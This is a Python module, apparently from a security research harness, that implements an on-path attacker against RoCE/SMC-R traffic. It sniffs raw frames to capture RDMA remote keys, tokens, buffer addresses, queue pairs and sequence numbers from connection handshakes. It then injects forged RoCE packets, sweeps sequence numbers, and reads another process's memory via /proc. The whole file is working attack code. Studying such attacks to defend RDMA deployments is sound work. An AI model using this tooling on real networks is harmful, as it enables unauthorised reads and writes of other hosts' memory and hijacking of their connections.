"""An attacker on the segment: it reads what passes by, and sends packets of its own from a raw socket."""
import glob
import os
import select
import socket
import struct
import time
from pathlib import Path

import roce

ETH_P_ALL, SO_RCVBUFFORCE = 3, 33
FRAME_BYTES_MAX = 65536
POLL_SECONDS, SILENCE_SECONDS = 0.02, 0.3
RECEIVE_BYTES = 16 << 20
CLC_EYECATCHER = b"\xe2\xd4\xc3\xd9"
ETHERTYPE_IP = b"\x08\x00"
CLC_ACCEPT, CLC_CONFIRM, CLC_BYTES_MIN = 2, 3, 68
CDC_TYPE, CDC_BYTES = 0xfe, 44
ELEMENT_BYTES_MIN = 16384


def raw_socket(device="eth0", protocol=ETH_P_ALL):
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(protocol))
    sock.setsockopt(socket.SOL_SOCKET, SO_RCVBUFFORCE, RECEIVE_BYTES)
    sock.bind((device, protocol))
    return sock


class Knowledge:
    """What an observer learns of each IP address that sends: {"clc", "target", "queue_pair", "psn", "macs", "cdc"}."""

    def __init__(self):
        self.hosts = {}

    def of(self, address):
        return self.hosts.setdefault(address, {})

    def take(self, frame):
        datagram = frame[roce.ETHERNET:]
        if frame[12:14] != ETHERTYPE_IP or len(datagram) < roce.IP:
            return
        if datagram[9] == socket.IPPROTO_TCP:
            self.take_tcp(datagram)
        else:
            packet = roce.parse(datagram)
            if packet is not None and packet.opcode in roce.REQUESTS:
                self.take_request(packet, [frame[at:at + 6].hex(":") for at in (6, 0)])

    def take_tcp(self, datagram):
        (total,) = struct.unpack("!H", datagram[2:4])
        segment = datagram[roce.IP:total]
        payload = segment[(segment[12] >> 4) * 4:]
        # An Accept or a Confirm, see docs/wire.md. Fairlead sends each in one segment.
        if payload[:4] == CLC_EYECATCHER and payload[4] in (CLC_ACCEPT, CLC_CONFIRM) and len(payload) >= CLC_BYTES_MIN:
            key, index, token, sizes, address = struct.unpack("!IBIBxQ", payload[41:60])
            size = ELEMENT_BYTES_MIN << (sizes >> 4)
            self.of(socket.inet_ntoa(datagram[12:16]))["clc"] = {
                "key": key, "token": token, "element": address + (index - 1) * size}

    def take_request(self, packet, macs):
        """Where it went, the sender's next sequence number, and its last CDC."""
        known = self.of(packet.source)
        known.update(target=packet.target, queue_pair=packet.queue_pair, psn=(packet.psn + 1) % roce.PSN_COUNT,
                     macs=macs)
        if packet.opcode == roce.SEND_ONLY and packet.payload[:2] == bytes([CDC_TYPE, CDC_BYTES]):
            known["cdc"] = packet.payload.hex()


def sniff(speak, until):
    """{address: what is known of it}, once the file exists and the RNICs are silent."""
    knowledge = Knowledge()
    with raw_socket() as sock:
        speak(listening=True)
        while not os.path.exists(until):
            if select.select([sock], [], [], POLL_SECONDS)[0]:
                knowledge.take(sock.recv(FRAME_BYTES_MAX))
        while select.select([sock], [], [], SILENCE_SECONDS)[0]:
            knowledge.take(sock.recv(FRAME_BYTES_MAX))
        return knowledge.hosts


sniff.speaks = True


def inject(macs, packets):
    """Sends packets, each the fields of a roce.Packet with its bytes in hexadecimal. `macs`: [source, target]"""
    # Protocol 0 receives nothing.
    with raw_socket(protocol=0) as sock:
        for fields in packets:
            sock.send(roce.frame(packet_of(fields), *macs))


def packet_of(fields):
    return roce.Packet(**{**fields, "payload": bytes.fromhex(fields.get("payload", ""))})


def sweep(macs, packet, first, count):
    """Sends a packet with `count` sequence numbers from `first` on; packets a second."""
    fixed = packet_of(packet)
    begun = time.monotonic()
    with raw_socket(protocol=0) as sock:
        for psn in range(first, first + count):
            fixed.psn = psn
            sock.send(roce.frame(fixed, *macs))
    return count / (time.monotonic() - begun)


def counters():
    """The counters of all RNICs of the node, added up by name."""
    sums = {}
    for path in glob.glob("/sys/class/infiniband/*/ports/1/hw_counters/*"):
        if not path.endswith("lifespan"):
            name = os.path.basename(path)
            sums[name] = sums.get(name, 0) + int(Path(path).read_text())
    return sums


def peek(pid, address, count):
    """Memory of a process, in hexadecimal."""
    with open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
        memory.seek(address)
        return memory.read(count).hex()
